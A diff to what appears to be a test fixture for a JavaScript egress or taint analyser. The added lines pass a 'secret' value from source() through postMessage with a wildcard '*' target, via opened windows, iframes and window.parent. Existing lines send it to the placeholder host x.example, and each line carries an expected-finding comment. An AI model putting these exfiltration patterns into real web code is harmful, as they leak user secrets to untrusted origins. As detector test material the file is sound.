@@ -23,4 +23,9 @@ export async function leaves(node) {
   window.location = "https://x.example/";
   navigation.navigate(`https://x.example/?${source()}`); // row: egress navigation external https://x.example/?{} <- secret url
   window.open("https://x.example/").postMessage(source(), "https://x.example"); // row: egress frame GET external https://x.example <- secret body
+  window.open("https://x.example/").postMessage(source(), "*"); // row: egress frame GET unknown {} <- secret body
+  document.getElementById("a").contentWindow.postMessage(source(), "*"); // row: egress frame GET unknown {} <- secret body
+  node.contentWindow.postMessage(source(), "*"); // row: egress frame GET unknown {} <- secret body
+  window.parent.postMessage(source(), "*");
+  node.postMessage(source());
 }
